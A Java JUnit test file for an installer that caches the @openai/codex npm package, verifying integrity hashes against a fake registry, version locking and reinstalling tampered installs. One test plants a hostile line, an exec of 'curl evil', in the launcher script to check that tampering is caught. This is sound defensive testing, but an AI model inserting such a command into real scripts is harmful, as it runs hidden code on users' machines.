package dev.codexfence.engine.internal.release;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The cache's install: integrity check against the registry, the per-version lock, reuse offline (fake npm). */
@Tag("slow") // starts a JVM, codex, a browser or a probe corpus: left out of -Pquick
class CodexInstallerTest {

    @TempDir
    Path tmp;

    private static final ReleaseVersion V = ReleaseVersion.parse("0.169.0").orElseThrow();

    private CodexInstaller installer(FakeNpm npm) {
        return new CodexInstaller(npm.npm(), tmp.resolve("cache"), Duration.ofSeconds(60), Clock.systemUTC());
    }

    private List<String> cacheEntries() throws Exception {
        try (var s = Files.list(tmp.resolve("cache"))) {
            return s.map(p -> p.getFileName().toString()).sorted().toList();
        }
    }

    @Test
    void installsCheckedAgainstTheRegistryAndReusesTheInstallWithoutNpm() throws Exception {
        FakeNpm npm = new FakeNpm(tmp.resolve("npm")).publish("0.169.0");
        CodexInstaller installer = installer(npm);
        Path install = installer.install(V, m -> {});

        assertThat(install).isEqualTo(tmp.resolve("cache/0.169.0"));
        assertThat(CodexInstaller.launcher(install)).exists();
        String marker = Files.readString(install.resolve(CodexInstaller.MARKER));
        assertThat(marker)
                .contains("\"version\":\"0.169.0\"")
                .contains("sha512-main-0.169.0")
                .contains("sha512-linux-0.169.0")
                .doesNotContain("darwin"); // another platform's package is not installed, so not checked
        assertThat(npm.calls())
                .containsExactly(
                        "install --prefix " + npm.calls().get(0).split(" ")[2]
                                + " --save-exact --ignore-scripts --no-audit --no-fund --no-update-notifier --loglevel=error @openai/codex@0.169.0",
                        "view @openai/codex@0.169.0 dist.integrity --json",
                        "view @openai/codex@0.169.0-linux-x64 dist.integrity --json");
        assertThat(cacheEntries()).containsExactly(".locks", "0.169.0");

        Files.delete(npm.state.resolve("integrity/@openai+codex@0.169.0")); // the registry is gone: offline
        assertThat(installer.install(V, m -> {})).isEqualTo(install);
        assertThat(installer.installed(V)).contains(install);
        assertThat(npm.installs()).isEqualTo(1);
    }

    @Test
    void refusesAnInstallWhoseLockDisagreesWithTheRegistryAndLeavesNothingBehind() throws Exception {
        FakeNpm npm = new FakeNpm(tmp.resolve("npm")).publish("0.169.0").tamper();
        assertThatThrownBy(() -> installer(npm).install(V, m -> {}))
                .isInstanceOf(InstallException.class)
                .hasMessage(
                        "integrity mismatch for @openai/codex@0.169.0-linux-x64 (node_modules/@openai/codex-linux-x64):"
                                + " the install's package-lock.json has sha512-TAMPERED but the registry says sha512-linux-0.169.0;"
                                + " refusing this install of codex 0.169.0");
        assertThat(cacheEntries()).containsExactly(".locks");
        assertThat(installer(npm).installed(V)).isEmpty();
    }

    @Test
    void anInstallWhoseLockFileWasChangedAfterwardsIsNotUsedAndIsReplaced() throws Exception {
        FakeNpm npm = new FakeNpm(tmp.resolve("npm")).publish("0.169.0");
        Path install = installer(npm).install(V, m -> {});
        Path lock = install.resolve("package-lock.json");
        Files.writeString(lock, Files.readString(lock).replace("sha512-linux-0.169.0", "sha512-EDITED"));
        assertThat(installer(npm).installed(V)).isEmpty();
        assertThat(installer(npm).install(V, m -> {})).isEqualTo(install);
        assertThat(Files.readString(lock)).contains("sha512-linux-0.169.0");
        assertThat(npm.installs()).isEqualTo(2);
    }

    @Test
    void anInstallWhoseLauncherWasChangedAfterwardsIsNotRunButInstalledAgain() throws Exception {
        FakeNpm npm = new FakeNpm(tmp.resolve("npm")).publish("0.169.0");
        Path install = installer(npm).install(V, m -> {});
        assertThat(Files.readString(install.resolve(CodexInstaller.MARKER)))
                .contains("\"path\":\"node_modules/@openai/codex/bin/codex.js\",\"sha256\":\"");
        Path script = install.resolve("node_modules/@openai/codex/bin/codex.js");
        Files.writeString(script, Files.readString(script) + "require('child_process').exec('curl evil');\n");
        assertThat(installer(npm).installed(V)).isEmpty();

        List<String> progress = new CopyOnWriteArrayList<>();
        assertThat(installer(npm).install(V, progress::add)).isEqualTo(install);
        assertThat(progress.get(0))
                .isEqualTo("the install of codex 0.169.0 in " + install + " does not match what was"
                        + " checked when it was installed; installing it again");
        assertThat(Files.readString(script)).doesNotContain("evil");
        assertThat(installer(npm).installed(V)).contains(install);
    }

    @Test
    void npmsOwnMessageIsTheReasonWhenAVersionCannotBeInstalled() throws Exception {
        FakeNpm npm = new FakeNpm(tmp.resolve("npm"));
        assertThatThrownBy(() ->
                        installer(npm).install(ReleaseVersion.parse("0.999.0").orElseThrow(), m -> {}))
                .hasMessageStartingWith("npm could not install @openai/codex@0.999.0: `npm install --prefix ")
                .hasMessageEndingWith("@openai/codex@0.999.0` failed (exit 1): npm error code ETARGET;"
                        + " npm error notarget No matching version found for @openai/codex@0.999.0.");
        assertThat(cacheEntries()).containsExactly(".locks");
    }

    @Test
    void twoInstallsOfOneVersionAtOnceRunNpmOnceAndBothGetTheInstall() throws Exception {
        FakeNpm npm = new FakeNpm(tmp.resolve("npm")).publish("0.169.0").slowInstall("1");
        List<String> progress = new CopyOnWriteArrayList<>();
        ExecutorService pool = Executors.newFixedThreadPool(2);
        try {
            Future<Path> a = pool.submit(() -> installer(npm).install(V, progress::add));
            Future<Path> b = pool.submit(() -> installer(npm).install(V, progress::add));
            assertThat(a.get()).isEqualTo(b.get()).isEqualTo(tmp.resolve("cache/0.169.0"));
        } finally {
            pool.shutdownNow();
        }
        assertThat(npm.installs()).isEqualTo(1);
        assertThat(progress)
                .containsOnlyOnce("installing @openai/codex@0.169.0 from npm into " + tmp.resolve("cache/0.169.0"));
        assertThat(progress).contains("waiting for another install of codex 0.169.0 in this process");
    }

    /** Another process (here python, with the same POSIX record lock) holds the version's lock: the install waits. */
    @Test
    void anInstallWaitsForTheLockAnotherProcessHolds() throws Exception {
        FakeNpm npm = new FakeNpm(tmp.resolve("npm")).publish("0.169.0");
        Path lockFile = Files.createDirectories(tmp.resolve("cache/.locks")).resolve("0.169.0.lock");
        Process holder = new ProcessBuilder(
                        "python3",
                        "-c",
                        "import fcntl,sys,time\n"
                                + "f=open(sys.argv[1],'a'); fcntl.lockf(f, fcntl.LOCK_EX); print('locked', flush=True); time.sleep(1.5)",
                        lockFile.toString())
                .redirectErrorStream(true)
                .start();
        try {
            String line = new BufferedReader(new InputStreamReader(holder.getInputStream(), StandardCharsets.UTF_8))
                    .readLine();
            assertThat(line).isEqualTo("locked");
            List<String> progress = new CopyOnWriteArrayList<>();
            Path install = installer(npm).install(V, progress::add);
            assertThat(progress.get(0))
                    .isEqualTo("waiting for another codex-fence installing codex 0.169.0 (" + lockFile + ")");
            assertThat(CodexInstaller.launcher(install)).exists();
        } finally {
            holder.destroyForcibly();
        }
    }

    @Test
    void integritiesMatchOnAnySharedHash() {
        assertThat(CodexInstaller.sameIntegrity("sha512-a sha1-b", "sha1-b")).isTrue();
        assertThat(CodexInstaller.sameIntegrity("sha512-a", "sha512-b")).isFalse();
    }
}
